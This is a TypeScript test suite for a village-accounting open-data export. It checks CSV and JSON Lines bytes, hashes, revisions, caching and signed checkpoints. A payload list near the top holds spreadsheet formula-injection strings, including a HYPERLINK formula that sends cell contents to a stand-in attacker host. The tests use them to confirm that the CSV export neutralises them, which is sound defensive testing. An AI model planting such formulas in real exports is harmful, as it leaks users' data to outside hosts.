// Bulk open data over HTTP: the files of a village month, a region and the country, exactly what is published.
import { createHash } from 'node:crypto';
import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sql } from 'drizzle-orm';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { queryRows } from '@mingbai/db/client';
import { checkpoint } from '@mingbai/db/ledger/checkpoints';
import { checkSignature } from '@mingbai/db/ledger/merkle';
import { checkpointKey, useCheckpointKeyFile } from '../../api/src/checkpoints/checkpoints.ts';
import { openPeriod } from '@mingbai/db/ledger/periods';
import { postVouchers } from '@mingbai/db/ledger/post';
import { publishPeriod } from '@mingbai/db/ledger/publish';
import type { UserRole } from '@mingbai/db/schema/users';
import { FILE_FORMAT } from '../../api/src/opendata/export-sql.ts';
import { openDataFolder, pruneCache, useOpenDataFolder } from '../../api/src/opendata/cache.ts';
import { useTestApi } from '../support/api.ts';
import { aMonth, aVillage, aVoucher, credit, debit } from '../support/builders.ts';
import { reviewOverApi } from '../support/review.ts';
import { aUser, TEST_PASSWORD } from '../support/users.ts';

// Each run writes its generated files to a folder of its own.
const cacheDir = mkdtempSync(join(tmpdir(), 'mingbai-opendata-test-'));
process.env.MINGBAI_OPENDATA_DIR = cacheDir;
afterAll(() => rmSync(cacheDir, { recursive: true, force: true }));

const t = useTestApi();
const get = (path: string, init?: RequestInit) => fetch(new URL(path, t.api.url), init);

/** A minimal RFC 4180 reader, to check the files with something other than the code that wrote them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted || (c !== ',' && c !== '\n')) {
      cell += c;
    } else {
      row.push(cell);
      cell = '';
      if (c === '\n') {
        rows.push(row);
        row = [];
      }
    }
  }
  return rows;
}

/**
 * A CSV writer of the test's own, not the export's: RFC 4180 as PostgreSQL's COPY (format csv) writes it, which the
 * docs promise: NULL as an empty cell, the empty string as "", a cell with a quote, comma, CR or LF quoted.
 */
function csvRow(values: readonly unknown[]): string {
  const cell = (value: unknown) => {
    if (value === null || value === undefined) return '';
    const text = String(value);
    const mustQuote = text === '' || ['"', ',', '\n', '\r'].some((c) => text.includes(c));
    return mustQuote ? `"${text.split('"').join('""')}"` : text;
  };
  return `${values.map(cell).join(',')}\n`;
}

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+86 打款', '-1+2', '@SUM(A1:A9)'];

async function monthWithPayloads() {
  const village = await aVillage(t.handle.db, '公式村');
  await aMonth(t.handle.db, village.id, 2025, 3, [
    aVoucher(1, '2025-03-02', PAYLOADS[0]!, debit('513', 12_345), credit('102', 12_345)),
    aVoucher(2, '2025-03-03', PAYLOADS[1]!, debit('514', 100), credit('102', 100)),
    aVoucher(3, '2025-03-04', PAYLOADS[2]!, debit('102', 5_000_00), credit('503', 5_000_00)),
    aVoucher(4, '2025-03-05', PAYLOADS[3]!, debit('513', 1), credit('101', 1)),
    aVoucher(5, '2025-03-06', '含"引号",逗号\n换行', debit('513', 2), credit('101', 2)),
  ]);
  return village;
}

describe('a village month', () => {
  it('neutralises a formula-injection payload in 摘要 in the CSV, and keeps it verbatim in JSON Lines', async () => {
    const village = await monthWithPayloads();
    const res = await get(`/data/v/${village.slug}/2025-03/lines.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${village.slug}-2025-03-r1-lines.csv"`);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8').slice(1));
    const header = rows[0]!;
    const summary = header.indexOf('summary');
    const summaries = new Set(rows.slice(1).map((r) => r[summary]));
    for (const payload of PAYLOADS) {
      expect(summaries).toContain(`'${payload}`);
      expect(summaries).not.toContain(payload);
    }
    expect(summaries).toContain('含"引号",逗号\n换行');
    // Every cell of every row: none starts a formula.
    expect(rows.length).toBeGreaterThan(1);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);

    const jsonl = await (await get(`/data/v/${village.slug}/2025-03/lines.jsonl`)).text();
    const lines = jsonl
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toHaveLength(10);
    expect(new Set(lines.map((l) => l.summary))).toContain(PAYLOADS[0]);
    expect(lines[0]).toMatchObject({
      village_slug: village.slug,
      year: 2025,
      month: 3,
      revision: 1,
      voucher_number: 1,
      voucher_date: '2025-03-02',
      line_no: 1,
      account_code: '513',
      side: 'debit',
      kind: 'spending',
      amount_fen: '12345',
      amount_yuan: '123.45',
    });
  });

  it('describes its files in a data package whose sizes and SHA-256 match what is served', async () => {
    const village = await monthWithPayloads();
    const res = await get(`/data/v/${village.slug}/2025-03/datapackage.json`);
    expect(res.status).toBe(200);
    const pkg = (await res.json()) as {
      licenses: { name: string }[];
      resources: { name: string; path: string; bytes: number; hash: string; schema: { fields: { name: string }[] } }[];
      mingbai: { chain: { digest: string; chainSeq: number }[] };
    };
    expect(pkg.licenses[0]!.name).toBe('CC-BY-4.0');
    expect(pkg.resources.map((r) => r.path)).toEqual([
      'r1/lines.csv',
      'r1/lines.jsonl',
      'r1/statements.csv',
      'r1/flags.csv',
      'r1/digests.jsonl',
      'r1/attachments.csv',
    ]);
    for (const resource of pkg.resources) {
      const file = await get(`/data/v/${village.slug}/2025-03/${resource.path}`);
      expect(file.headers.get('cache-control')).toContain('immutable');
      const body = Buffer.from(await file.arrayBuffer());
      expect(body.length).toBe(resource.bytes);
      expect(`sha256:${createHash('sha256').update(body).digest('hex')}`).toBe(resource.hash);
    }
    const statements = parseCsv(
      (await (await get(`/data/v/${village.slug}/2025-03/r1/statements.csv`)).text()).slice(1),
    );
    const row = Object.fromEntries(statements[0]!.map((name, i) => [name, statements[1]![i]]));
    expect(row).toMatchObject({
      digest: pkg.mingbai.chain[0]!.digest,
      previous_digest: '',
      chain_seq: '1',
      income_fen: '500000',
      spending_fen: '12448',
    });
  });

  it('serves every published revision for ever, the current one at the plain address, never an open one', async () => {
    const village = await aVillage(t.handle.db);
    await aMonth(t.handle.db, village.id, 2025, 5, [
      aVoucher(1, '2025-05-02', '修路', debit('514', 1_000), credit('102', 1_000)),
    ]);
    const correct = (amountFen: number, publish: boolean) =>
      t.handle.db.transaction(async (tx) => {
        const key = { villageId: village.id, year: 2025, month: 5 };
        // A correction starts from a copy of the revision before it; this one adds a voucher it had missed.
        const { revision } = await openPeriod(tx, { ...key, actor: 'test', reason: '漏记一笔' });
        await postVouchers(tx, {
          ...key,
          revision,
          actor: 'test',
          vouchers: [aVoucher(revision, '2025-05-03', '补记', debit('514', amountFen), credit('102', amountFen))],
        });
        if (publish) await publishPeriod(tx, { ...key, actor: 'test-director' });
      });
    await correct(2_000, true);
    await correct(3_000, false);
    const amounts = async (path: string) => {
      const res = await get(path);
      if (res.status !== 200) return res.status;
      const lines = (await res.text()).trimEnd().split('\n');
      return lines
        .map((l) => JSON.parse(l) as { village_slug: string; revision: number; amount_fen: string })
        .filter((l) => l.village_slug === village.slug)
        .map((l) => `r${l.revision}:${l.amount_fen}`);
    };
    const base = `/data/v/${village.slug}/2025-05`;
    const r2 = ['r2:1000', 'r2:1000', 'r2:2000', 'r2:2000'];
    expect(await amounts(`${base}/lines.jsonl`)).toEqual(r2);
    expect(await amounts(`${base}/r1/lines.jsonl`)).toEqual(['r1:1000', 'r1:1000']);
    expect(await amounts(`${base}/r2/lines.jsonl`)).toEqual(r2);
    expect(await amounts(`${base}/r3/lines.jsonl`)).toBe(404);
    expect(await amounts('/data/months/2025-05/lines.jsonl')).toEqual(r2);
    expect((await get(`${base}/lines.jsonl`)).headers.get('cache-control')).not.toContain('immutable');
  });

  it('answers unknown, unpublished and malformed addresses with a coded 404 in Chinese', async () => {
    const village = await aVillage(t.handle.db);
    await aMonth(
      t.handle.db,
      village.id,
      2025,
      4,
      [aVoucher(1, '2025-04-01', '草稿', debit('513', 9), credit('102', 9))],
      {
        publish: false,
      },
    );
    for (const path of [
      `/data/v/${village.slug}/2025-04/lines.csv`,
      `/data/v/${village.slug}/2025-04/r1/lines.jsonl`,
      `/data/v/no-such-village/2025-04/datapackage.json`,
      `/data/months/1999-01/lines.csv`,
      `/data/r/no-such-region/2025-04/lines.csv`,
      `/data/v/${village.slug}/2025-13/lines.csv`,
      `/data/v/${village.slug}/2025-04/lines.xlsx`,
    ]) {
      const res = await get(path);
      expect(res.status, path).toBe(404);
      const body = (await res.json()) as { errors: { message: string; extensions: { code: string } }[] };
      expect(body.errors[0]!.extensions.code).toBe('NOT_FOUND');
      expect(body.errors[0]!.message).toMatch(/[\u4e00-\u9fff]/);
    }
  });

  it('revalidates with its ETag and answers HEAD without a body', async () => {
    const village = await monthWithPayloads();
    const path = `/data/v/${village.slug}/2025-03/r1/lines.csv`;
    const first = await get(path);
    await first.arrayBuffer();
    const etag = first.headers.get('etag')!;
    expect(etag).toMatch(/^"[0-9a-f]{40}"$/);
    const again = await get(path, { headers: { 'if-none-match': etag } });
    expect(again.status).toBe(304);
    const head = await get(path, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(Number(head.headers.get('content-length'))).toBeGreaterThan(0);
  });
});

describe('a month across villages', () => {
  it('includes the current revision of every village in the country and in its region, and links them from GraphQL', async () => {
    const village = await monthWithPayloads();
    const national = await (await get('/data/months/2025-03/lines.jsonl')).text();
    const mine = national
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { village_slug: string })
      .filter((l) => l.village_slug === village.slug);
    expect(mine).toHaveLength(10);

    const res = await t.api.query<{
      village: { statement: { downloads: { csv: string; datapackage: string } } };
      openData: { csv: string; statementsCsv: string } | null;
      none: unknown;
    }>(
      `query ($slug: String!) {
        village(slug: $slug) { statement(year: 2025, month: 3) { downloads { csv datapackage } } }
        openData(year: 2025, month: 3) { csv statementsCsv }
        none: openData(year: 2001, month: 1) { csv }
      }`,
      { slug: village.slug },
    );
    expect(res.errors).toBeUndefined();
    expect(res.data!.village.statement.downloads.csv).toBe(`/data/v/${village.slug}/2025-03/r1/lines.csv`);
    expect(res.data!.openData!.csv).toBe('/data/months/2025-03/lines.csv');
    expect(res.data!.none).toBeNull();

    const [town] = await queryRows<{ town: string; district: string }>(
      t.handle.db,
      sql`select t.slug as town, d.slug as district from villages v join regions t on t.id = v.town_id
            join regions d on d.id = t.parent_id where v.slug = ${village.slug}`,
    );
    for (const region of [town!.town, town!.district]) {
      const regional = await (await get(`/data/r/${region}/2025-03/lines.csv`)).text();
      expect(regional, region).toContain(`,${village.slug},`);
      expect(regional, region).not.toContain(',fucun,');
    }

    const statements = await (await get(res.data!.openData!.statementsCsv)).text();
    expect(statements).toContain(village.slug);

    const catalog = (await (await get('/data/catalog.json')).json()) as { months: { year: number; month: number }[] };
    expect(catalog.months).toContainEqual(expect.objectContaining({ year: 2025, month: 3 }));
  });
});

/**
 * The national month as the first version of the export computed it, in one statement: every line joined and sorted
 * by village code, the flow kind by a window over the voucher. The files must stay these bytes, however they are made.
 */
async function referenceLines(year: number, month: number, villageIds?: number[]) {
  const neutral = (c: string) =>
    `case when left(${c}, 1) in ('=', '+', '-', '@', E'\\t', E'\\r') then '''' || ${c} else ${c} end`;
  return queryRows<Record<string, unknown>>(
    t.handle.db,
    sql.raw(`
    with sel as (select p.village_id, max(p.revision) as revision from periods p
                  where p.status = 'published' and p.year = ${year} and p.month = ${month}
                    ${villageIds ? `and p.village_id in (${villageIds.join(', ')})` : ''}
                  group by p.village_id)
    select ${neutral('vi.code')} as village_code, ${neutral('vi.slug')} as village_slug,
           ${neutral('vi.name')} as village_name, ${neutral('d.name')} as district, ${neutral('t.name')} as town,
           v.year::int as year, v.month::int as month, v.revision::int as revision, v.number as voucher_number,
           v.date::text as voucher_date, l.line_no::int as line_no, ${neutral('l.standard')} as account_standard,
           ${neutral('l.account_code')} as account_code, ${neutral('coalesce(va.name, a.name)')} as account_name,
           ${neutral('a.class')} as account_class,
           case
             when a.class = 'income' and l.side = 'credit' then 'income'
             when a.class = 'expense' and l.side = 'debit' then 'spending'
             when a.class not in ('income', 'expense') and left(l.account_code, 3) not in ('101', '102')
                  and not bool_or(a.class in ('income', 'expense')) over w
                  and bool_or(left(l.account_code, 3) in ('101', '102')) over w
               then case when l.side = 'debit' then 'other_payment' else 'other_receipt' end
           end as kind,
           l.side, l.amount_fen::text as amount_fen,
           (l.amount_fen / 100)::text || '.' || lpad((l.amount_fen % 100)::text, 2, '0') as amount_yuan,
           ${neutral('l.counterparty_public')} as counterparty, l.counterparty_is_person::text as counterparty_is_person,
           l.payment_method, ${neutral('v.summary_public')} as summary, ${neutral('l.summary_public')} as line_summary,
           v.attachments, ${neutral('p.digest')} as digest,
           vi.name as village_name_json, d.name as district_json, t.name as town_json,
           coalesce(va.name, a.name) as account_name_json, l.counterparty_public as counterparty_json,
           l.counterparty_is_person as counterparty_is_person_json, v.summary_public as summary_json,
           l.summary_public as line_summary_json
      from sel
      join periods p on p.village_id = sel.village_id and p.year = ${year} and p.month = ${month}
                    and p.revision = sel.revision
      join vouchers v on v.village_id = p.village_id and v.year = p.year and v.month = p.month and v.revision = p.revision
      join villages vi on vi.id = v.village_id
      join regions t on t.id = vi.town_id
      left join regions d on d.id = t.parent_id
      join voucher_lines l on l.village_id = v.village_id and l.voucher_id = v.id
      join accounts a on a.standard = l.standard and a.code = left(l.account_code, 3)
      left join village_accounts va on va.village_id = l.village_id and va.standard = l.standard
                                   and va.code = l.account_code
    window w as (partition by vi.code, v.number)
    order by vi.code, v.number, l.line_no`),
  );
}

/** The line files of a month as the reference query gives them: every village's, or only the given villages'. */
async function referenceFiles(year: number, month: number, villageIds?: number[]) {
  const rows = await referenceLines(year, month, villageIds);
  const columns = Object.keys(rows[0]!).filter((c) => !c.endsWith('_json'));
  const csv = '\ufeff' + csvRow(columns) + rows.map((r) => csvRow(columns.map((c) => r[c]))).join('');
  const integers = ['year', 'month', 'revision', 'voucher_number', 'line_no', 'attachments'];
  const jsonl = rows
    .map((r) => {
      const value = (c: string) => (`${c}_json` in r ? r[`${c}_json`] : integers.includes(c) ? Number(r[c]) : r[c]);
      return `${JSON.stringify(Object.fromEntries(columns.map((c) => [c, value(c)])))}\n`;
    })
    .join('');
  return { rows, csv, jsonl };
}

describe('the bytes of a national month', () => {
  it('are exactly what one straightforward query over the published lines gives, in CSV and JSON Lines', async () => {
    // Setup
    await monthWithPayloads();
    // Other test files publish 2025-03 months of their own villages into the shared database: the reference is taken
    // before and after the downloads, and the comparison made only when nothing was published in between.
    let reference = await referenceFiles(2025, 3);
    let servedCsv: string;
    let servedJsonl: string;
    for (let attempt = 1; ; attempt++) {
      // Action
      // Bytes, not text(): a UTF-8 decoder drops the BOM.
      servedCsv = Buffer.from(await (await get('/data/months/2025-03/lines.csv')).arrayBuffer()).toString('utf8');
      servedJsonl = await (await get('/data/months/2025-03/lines.jsonl')).text();
      const after = await referenceFiles(2025, 3);
      if (after.csv === reference.csv && after.jsonl === reference.jsonl) break;
      expect(attempt, '2025-03 kept changing under the test').toBeLessThan(5);
      reference = after;
    }
    const { rows, csv, jsonl } = reference;
    // Assertions
    expect(rows.length).toBeGreaterThan(10);
    expect(servedCsv).toBe(csv);
    expect(servedJsonl).toBe(jsonl);
    // Read back by a reader that is not the writer: the same cells as the reference query's rows.
    const columns = Object.keys(rows[0]!).filter((c) => !c.endsWith('_json'));
    const parsed = parseCsv(servedCsv.slice(1));
    expect(parsed[0]).toEqual(columns);
    expect(parsed.slice(1)).toEqual(rows.map((r) => columns.map((c) => (r[c] === null ? '' : String(r[c])))));
  });
});

describe('the file cache', () => {
  it('keeps within MINGBAI_OPENDATA_MAX_BYTES by dropping the least recently used files, and makes them again', async () => {
    const village = await monthWithPayloads();
    const dir = mkdtempSync(join(tmpdir(), 'mingbai-opendata-prune-'));
    const saved = openDataFolder();
    const cached = () =>
      readdirSync(dir, { recursive: true, encoding: 'utf8' })
        .filter((f) => /[0-9a-f]{64}\.(lines\.csv|lines\.jsonl|statements\.csv)$/.test(f))
        .map((f) => f.replace(/^.*[0-9a-f]{64}\./, ''))
        .sort();
    const pause = () => new Promise((resolve) => setTimeout(resolve, 20)); // distinct last-use times
    const base = `/data/v/${village.slug}/2025-03/r1`;
    try {
      useOpenDataFolder({ ...saved, dir });
      const sizes: Record<string, number> = {};
      for (const file of ['lines.csv', 'lines.jsonl', 'statements.csv']) {
        sizes[file] = (await (await get(`${base}/${file}`)).arrayBuffer()).byteLength;
        await pause();
      }
      expect(cached()).toEqual(['lines.csv', 'lines.jsonl', 'statements.csv']);

      // Room for two: lines.csv is used again, so lines.jsonl is now the least recently used and goes.
      useOpenDataFolder({ dir, maxBytes: sizes['lines.csv']! + sizes['statements.csv']! });
      const csv = await (await get(`${base}/lines.csv`)).text();
      await pause();
      await (await get(`${base}/statements.csv`)).text();
      await pruneCache(dir);
      expect(cached()).toEqual(['lines.csv', 'statements.csv']);

      // A pruned file is made again, and the cache drops what was least recently used to fit: lines.csv first.
      await pause();
      const jsonl = await (await get(`${base}/lines.jsonl`)).text();
      expect(jsonl.split('\n')[0]).toContain(village.slug);
      await vi.waitFor(() => expect(cached()).not.toContain('lines.csv'), { timeout: 5_000 });
      expect(await (await get(`${base}/lines.csv`)).text()).toBe(csv);
    } finally {
      useOpenDataFolder(saved);
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('per-village-month fragments', () => {
  const folderOf = (dir: string, month: string) => join(dir, 'fragments', FILE_FORMAT, month);
  /** These villages' fragments of a month, by name, with their inode: a fragment written again gets a new one. */
  const fragmentsOf = (dir: string, month: string, villages: { id: number }[]) => {
    const folder = folderOf(dir, month);
    const names = existsSync(folder) ? readdirSync(folder) : [];
    return Object.fromEntries(
      names
        .filter((n) => villages.some((v) => n.startsWith(`${v.id}-r`)) && !n.endsWith('.tmp'))
        .sort()
        .map((n) => [n, statSync(join(folder, n)).ino]),
    );
  };
  /** Whole files go, fragments stay: the next file is assembled again. */
  const dropWholeFiles = (dir: string) => {
    for (const name of readdirSync(dir)) if (name !== 'fragments') rmSync(join(dir, name), { recursive: true });
  };
  const text = async (path: string) => Buffer.from(await (await get(path)).arrayBuffer()).toString('utf8');

  async function inOwnFolder(work: (dir: string) => Promise<void>): Promise<void> {
    const dir = mkdtempSync(join(tmpdir(), 'mingbai-opendata-fragments-'));
    const saved = openDataFolder();
    useOpenDataFolder({ ...saved, dir });
    try {
      await work(dir);
    } finally {
      useOpenDataFolder(saved);
      rmSync(dir, { recursive: true, force: true });
    }
  }

  /** Three villages of this process's town publish the month; cells that CSV must quote included. */
  async function threeVillages(month: number) {
    const mm = String(month).padStart(2, '0');
    const villages = [];
    for (const [i, summary] of ['修桥', '含"引号",逗号\n换行', '=1+1'].entries()) {
      const village = await aVillage(t.handle.db);
      await aMonth(t.handle.db, village.id, 2025, month, [
        aVoucher(1, `2025-${mm}-02`, summary, debit('513', 100 + i), credit('102', 100 + i)),
        aVoucher(2, `2025-${mm}-03`, '零用', debit('514', 7), credit('101', 7)),
      ]);
      villages.push(village);
    }
    const [town] = await queryRows<{ slug: string }>(
      t.handle.db,
      sql`select t.slug from villages v join regions t on t.id = v.town_id where v.id = ${villages[0]!.id}`,
    );
    return { villages, base: `/data/r/${town!.slug}/2025-${mm}` };
  }

  async function correct(villageId: number, month: number) {
    await t.handle.db.transaction(async (tx) => {
      const key = { villageId, year: 2025, month };
      const { revision } = await openPeriod(tx, { ...key, actor: 'test', reason: '漏记一笔' });
      await postVouchers(tx, {
        ...key,
        revision,
        actor: 'test',
        vouchers: [aVoucher(3, `2025-${String(month).padStart(2, '0')}-04`, '补记', debit('514', 9), credit('102', 9))],
      });
      await publishPeriod(tx, { ...key, actor: 'test-director' });
    });
  }

  it('makes each village month’s fragment once and reuses it; a correction makes exactly one new one', async () => {
    await inOwnFolder(async (dir) => {
      // Setup
      const { villages, base } = await threeVillages(8);
      const ids = villages.map((v) => v.id);
      // Action
      const first = { csv: await text(`${base}/lines.csv`), jsonl: await text(`${base}/lines.jsonl`) };
      const made = fragmentsOf(dir, '2025-08', villages);
      dropWholeFiles(dir);
      const national = await text('/data/months/2025-08/lines.csv');
      const again = await text(`${base}/lines.csv`);
      // Assertions: the reference bytes; csv and jsonl for each village; none written twice
      const reference = await referenceFiles(2025, 8, ids);
      expect(first).toEqual({ csv: reference.csv, jsonl: reference.jsonl });
      expect(Object.keys(made)).toHaveLength(6);
      expect(again).toBe(first.csv);
      expect(national).toContain(first.csv.slice(first.csv.indexOf('\n') + 1));
      expect(fragmentsOf(dir, '2025-08', villages)).toEqual(made);

      // Action: the middle village corrects its month
      await correct(villages[1]!.id, 8);
      const corrected = { csv: await text(`${base}/lines.csv`), jsonl: await text(`${base}/lines.jsonl`) };
      // Assertions: the new revision's bytes, from one new fragment per format; every other fragment untouched
      const after = await referenceFiles(2025, 8, ids);
      expect(corrected).toEqual({ csv: after.csv, jsonl: after.jsonl });
      expect(corrected.csv).toContain('补记');
      const now = fragmentsOf(dir, '2025-08', villages);
      const added = Object.keys(now).filter((n) => !(n in made));
      expect(added).toEqual([
        expect.stringMatching(new RegExp(`^${villages[1]!.id}-r2-[0-9a-f]{64}\\.csv$`)),
        expect.stringMatching(new RegExp(`^${villages[1]!.id}-r2-[0-9a-f]{64}\\.jsonl$`)),
      ]);
      for (const [name, inode] of Object.entries(made)) expect(now[name], name).toBe(inode);
    });
  });

  it('makes a damaged, truncated or missing fragment again rather than serving it', async () => {
    await inOwnFolder(async (dir) => {
      // Setup
      const { villages, base } = await threeVillages(9);
      const good = await text(`${base}/lines.csv`);
      const folder = folderOf(dir, '2025-09');
      const [damaged, missing] = [villages[0]!, villages[2]!].map((v) =>
        readdirSync(folder).find((n) => n.startsWith(`${v.id}-r1-`) && n.endsWith('.csv'))!,
      );
      const original = readFileSync(join(folder, damaged!));
      const flipped = Buffer.from(original);
      flipped[flipped.length - 5]! ^= 0x01; // one bit, same size
      writeFileSync(join(folder, damaged!), flipped);
      rmSync(join(folder, missing!));
      dropWholeFiles(dir);
      // Action
      const served = await text(`${base}/lines.csv`);
      // Assertions
      expect(served).toBe(good);
      expect(readFileSync(join(folder, damaged!))).toEqual(original);
      expect(existsSync(join(folder, missing!))).toBe(true);

      // Action: cut short
      writeFileSync(join(folder, damaged!), original.subarray(0, original.length - 10));
      dropWholeFiles(dir);
      // Assertions
      expect(await text(`${base}/lines.csv`)).toBe(good);
      expect(readFileSync(join(folder, damaged!))).toEqual(original);
    });
  });

  it('prunes fragments with the whole files, least recently used first, and makes them again when needed', async () => {
    await inOwnFolder(async (dir) => {
      // Setup
      const { villages, base } = await threeVillages(10);
      const good = await text(`${base}/lines.csv`);
      const [whole] = readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.lines.csv'));
      const wholeBytes = statSync(join(dir, whole!)).size;
      const hourAgo = new Date(Date.now() - 3_600_000);
      const fragmentNames = Object.keys(fragmentsOf(dir, '2025-10', villages));
      expect(fragmentNames.length).toBeGreaterThan(0);
      for (const name of fragmentNames) {
        utimesSync(join(folderOf(dir, '2025-10'), name), hourAgo, hourAgo);
      }
      // Action: room for the whole file only; the fragments were used longer ago
      await pruneCache(dir, wholeBytes);
      // Assertions
      expect(fragmentsOf(dir, '2025-10', villages)).toEqual({});
      expect(existsSync(join(dir, whole!))).toBe(true);
      expect(await text(`${base}/lines.csv`)).toBe(good);

      // Action: nothing kept, then asked again
      await pruneCache(dir, 0);
      expect(existsSync(join(dir, whole!))).toBe(false);
      const again = await text(`${base}/lines.csv`);
      // Assertions
      expect(again).toBe(good);
      expect(Object.keys(fragmentsOf(dir, '2025-10', villages))).toHaveLength(3);
    });
  });

  it('makes a village month’s fragments and a signed checkpoint in the background when the committee publishes it', async () => {
    await inOwnFolder(async (dir) => {
      useCheckpointKeyFile(join(dir, 'checkpoint.pem'));
      // Setup
      const village = await aVillage(t.handle.db);
      await aMonth(
        t.handle.db,
        village.id,
        2025,
        11,
        [aVoucher(1, '2025-11-02', '修路', debit('514', 1_000), credit('102', 1_000))],
        { publish: false },
      );
      const as = async (...grant: [UserRole, string]) =>
        t.api.as(await t.api.login(await aUser(t.handle.db, grant), TEST_PASSWORD));
      const month = { v: village.slug, y: 2025, m: 11 };
      const args = `($v: String!, $y: Int!, $m: Int!) { %s(villageSlug: $v, year: $y, month: $m) { revision } }`;
      await (
        await as('accountant', village.slug)
      )(`mutation ${args.replace('%s', 'submitMonth')}`, month);
      await reviewOverApi(t, { villageSlug: village.slug, year: 2025, month: 11 });
      // Action
      const published = await (
        await as('director', village.slug)
      )(`mutation ${args.replace('%s', 'publishMonth')}`, month);
      // Assertions
      expect(published.errors).toBeUndefined();
      await vi.waitFor(
        () =>
          expect(Object.keys(fragmentsOf(dir, '2025-11', [village]))).toEqual([
            expect.stringMatching(/-r1-[0-9a-f]{64}\.csv$/),
            expect.stringMatching(/-r1-[0-9a-f]{64}\.jsonl$/),
          ]),
        { timeout: 10_000 },
      );
      // The after-commit hook signed the new state: the village's one publication is a leaf of the latest checkpoint.
      await vi.waitFor(
        async () => {
          const latest = await checkpoint(t.handle.db);
          expect(latest?.leaves.find((l) => l.code === village.code)).toMatchObject({ slug: village.slug, length: 1 });
          expect(checkSignature(latest!, latest!.signature, checkpointKey().publicKey)).toBe(true);
        },
        { timeout: 10_000 },
      );
    });
  });
});
